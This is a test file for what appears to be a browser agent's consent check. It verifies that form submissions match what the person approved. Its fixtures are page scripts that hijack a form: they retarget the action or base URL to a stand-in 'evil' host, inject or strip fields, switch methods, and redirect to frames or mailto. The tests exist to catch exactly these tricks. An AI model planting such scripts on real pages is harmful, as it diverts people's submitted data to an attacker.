/** Law 4: what is about to be sent is held to what was agreed to. Each shape in which a page changes it; the logs of both hosts prove it. */
import { describe, expect, it } from 'vitest';
import type { Run } from '../../../lib/model/index.ts';
import type { Tab } from '../../browsers.ts';
import { type Host, html } from '../../servers/hosts.ts';
import { AWAS_PATH, awas, field, site } from './sites.ts';
import { IN_ONE_BROWSER, rowsHere, setStage, until } from './stage.ts';

const stage = setStage();

interface Scene {
  readonly shop: Host;
  readonly evil: Host;
  readonly tab: Tab;
}

/** A shop whose manifest declares an order, on a page that is written out with what it does about it. */
async function visit(page: string, parameters: readonly object[] = [field('item')]): Promise<Scene> {
  const evil = await stage.host('evil', { handle: () => html('<h1>Thank you</h1>') });
  const shop = await stage.host('shop');
  const answers = site({
    '/': html(page.replaceAll('EVIL', evil.origin)),
    [AWAS_PATH]: awas(shop.origin, [{ id: 'order', path: '/', method: 'POST', parameters }]),
  });
  shop.handle = (request, response) => answers(request, response) ?? html('<h1>Thank you</h1>');
  const tab = await stage.visit(shop.origin);
  await stage.ready(tab);
  return { shop, evil, tab };
}

/** All that both hosts were sent since, but for pages and places where declarations are looked for. */
const sent = ({ shop, evil }: Scene) =>
  [...shop.log, ...evil.log]
    .filter(({ path }) => !/^\/(?:$|agents?\.|\.well-known|favicon)/.test(path))
    .map(({ host, method, path, body }) =>
      `${method} ${host === shop.name ? '' : 'EVIL'}${path} ${body}`.trim(),
    );

const ask = (scene: Scene, more: object = {}) =>
  stage.panel<Run | { readonly ok: false; readonly code: string; readonly message: string }>('run', {
    tabId: scene.tab.id,
    action: 'awas:order',
    arguments: { item: 'hat' },
    on: 'page',
    ...more,
  });

/** The person runs it, and agrees to what is shown. */
async function agree(scene: Scene, meanwhile?: () => Promise<unknown>): Promise<Run> {
  const asked = await ask(scene);
  if ('ok' in asked) throw new Error(asked.message);
  const run = await stage.question(scene.tab, 'order');
  expect(sent(scene)).toEqual([]);
  await meanwhile?.();
  await stage.answer(run, true);
  return run;
}

const FIELDS = '<label>Item <input name="item"></label><input type="hidden" name="token" value="1">';
const FORM = `<form id="f" action="/order" method="post" data-awas-action="order">${FIELDS}<button>Order</button></form><iframe name="inner"></iframe>`;
const does = (code: string, page = FORM): string =>
  `${page}<script>const form = document.querySelector('#f'); ${code}</script>`;
const onSubmit = (code: string): string => does(`form.addEventListener('submit', (event) => { ${code} });`);
const onFormdata = (code: string): string =>
  does(`form.addEventListener('formdata', (event) => { ${code} });`);

describe('a page that changes what it sends is stopped before the request', () => {
  const changing: readonly [what: string, page: string][] = [
    ['another action in its submit listener', onSubmit("form.action = 'EVIL/x';")],
    ['the button’s own address', onSubmit("event.submitter.setAttribute('formaction', 'EVIL/x');")],
    [
      'another base',
      onSubmit("document.head.appendChild(document.createElement('base')).href = 'EVIL/';").replace(
        'action="/order"',
        'action="order"',
      ),
    ],
    [
      'form.submit() in place of what was begun',
      onSubmit("event.preventDefault(); form.action = 'EVIL/x'; form.submit();"),
    ],
    ['GET in place of POST', onSubmit("form.method = 'get';")],
    ['another path of its own', onSubmit("form.action = '/account/close';")],
    ['a field added to what is sent', onFormdata("event.formData.append('evil', 'EVIL');")],
    ['a field taken from what is sent', onFormdata("event.formData.delete('token');")],
    ['another window', onSubmit("form.target = '_blank';")],
    ['a frame', onSubmit("form.target = 'inner';")],
    ['a frame in its formdata listener', onFormdata("form.target = 'inner';")],
    [
      'another site, in another window, by form.submit()',
      onSubmit("event.preventDefault(); form.target = '_blank'; form.action = 'EVIL/x'; form.submit();"),
    ],
    [
      'another action as soon as it is filled in',
      does("form.addEventListener('input', () => { form.action = 'EVIL/x'; });"),
    ],
    [
      'another action in a frame of its own',
      `<iframe srcdoc="${does("form.addEventListener('submit', () => { form.action = 'EVIL/x'; });").replaceAll('"', '&quot;')}"></iframe>`,
    ],
  ];
  // Which events there are, and when, and what passes them by, is each browser's own.
  it.each(
    rowsHere(
      changing,
      'another action in its submit listener',
      'form.submit() in place of what was begun',
      'a field added to what is sent',
      'a frame in its formdata listener',
      'another site, in another window, by form.submit()',
      'another action in a frame of its own',
    ),
  )('%s', async (_, page) => {
    const scene = await visit(page);
    const run = await agree(scene);
    const { outcome } = await stage.ended(scene.tab, run);
    expect(outcome).toMatchObject({ ok: false, code: 'destination-changed' });
    expect(sent(scene)).toEqual([]);
  });

  const changed: readonly [what: string, change: string][] = [
    ['its action', "form.action = 'EVIL/x'"],
    ['its button’s address', "form.querySelector('button').setAttribute('formaction', 'EVIL/x')"],
    ['its method', "form.method = 'get'"],
    ['its target', "form.target = 'inner'"],
    ['its fields', "form.insertAdjacentHTML('beforeend', '<input name=evil value=1>')"],
    ['the base of its addresses', "document.head.insertAdjacentHTML('beforeend', '<base href=EVIL/>')"],
  ];
  it.each(rowsHere(changed, 'its action'))('%s, changed while the person is asked', async (_, change) => {
    const scene = await visit(FORM.replace('action="/order"', 'action="order"'));
    const code = `{ const form = document.querySelector('#f'); ${change.replaceAll('EVIL', scene.evil.origin)} }`;
    const run = await agree(scene, () =>
      scene.tab.evaluate((text) => {
        document.body.appendChild(document.createElement('script')).text = text;
      }, code),
    );
    const { outcome } = await stage.ended(scene.tab, run);
    expect(outcome).toMatchObject({ ok: false });
    expect(outcome?.ok === false && outcome.code).toMatch(/^(?:destination-changed|not-runnable)$/);
    expect(sent(scene)).toEqual([]);
  });
});

describe('what was agreed to is sent, and nothing else', () => {
  const kept: readonly [what: string, page: string, expected: readonly string[]][] = [
    ['by a form', FORM, ['POST /order item=hat&token=1']],
    [
      'by a form whose fields shadow its properties',
      `<form id="f" action="/order" method="post" data-awas-action="order"><input name="item"><input type="hidden" name="action" value="EVIL/x"><input type="hidden" name="method" value="get"><input type="hidden" name="submit"><button>Order</button></form>`,
      ['POST /order'],
    ],
    [
      'by a form that is held up for a moment',
      onSubmit('event.preventDefault(); setTimeout(() => form.submit(), 300);'),
      ['POST /order item=hat&token=1'],
    ],
    [
      'by a form in a frame',
      `<iframe srcdoc="${FORM.replaceAll('"', '&quot;')}"></iframe>`,
      ['POST /order item=hat&token=1'],
    ],
    [
      'by a form that only its last listener would change',
      onSubmit("addEventListener('submit', () => { form.action = 'EVIL/x'; });"),
      ['POST /order item=hat&token=1'],
    ],
  ];
  it.each(
    rowsHere(
      kept,
      'by a form that is held up for a moment',
      'by a form in a frame',
      'by a form that only its last listener would change',
    ),
  )('%s', async (_, page, expected) => {
    const scene = await visit(page);
    await agree(scene);
    await until('the order', () => sent(scene).length > 0);
    await new Promise((resolve) => setTimeout(resolve, 300));
    const got = sent(scene);
    expect(got).toHaveLength(expected.length);
    for (const [index, line] of expected.entries()) expect(got[index]).toContain(line);
  });

  it('by a script of the page, which is noted', async () => {
    const scene = await visit(
      onSubmit(
        "event.preventDefault(); fetch('/api/order', { method: 'POST', body: new URLSearchParams(new FormData(form)) }).then(() => { document.body.append('Ordered'); });",
      ),
    );
    const run = await agree(scene);
    const { outcome } = await stage.ended(scene.tab, run);
    expect(outcome).toMatchObject({ ok: true });
    expect(JSON.stringify(outcome)).toContain('handledByScript');
    expect(sent(scene)).toEqual(['POST /api/order item=hat&token=1']);
  });
});

// lib/page tells by the DOM.
describe.runIf(IN_ONE_BROWSER)('what nobody could tell is refused beforehand', () => {
  it.each<[what: string, page: string, code: string]>([
    ['a form that opens another window', FORM.replace('<form', '<form target="_blank"'), 'not-runnable'],
    ['a form that sends into a frame', FORM.replace('<form', '<form target="inner"'), 'not-runnable'],
    ['a page whose base opens other windows', `<base target="_blank">${FORM}`, 'not-runnable'],
    ['a form that sends mail', FORM.replace('"/order"', '"mailto:a@evil.example"'), 'not-runnable'],
    ['a control outside of the form', `${FORM}<input name="item">`, 'ambiguous'],
  ])('%s', async (_, page, code) => {
    const scene = await visit(page);
    expect(await ask(scene)).toMatchObject({ ok: false, code });
    expect(sent(scene)).toEqual([]);
  });
});
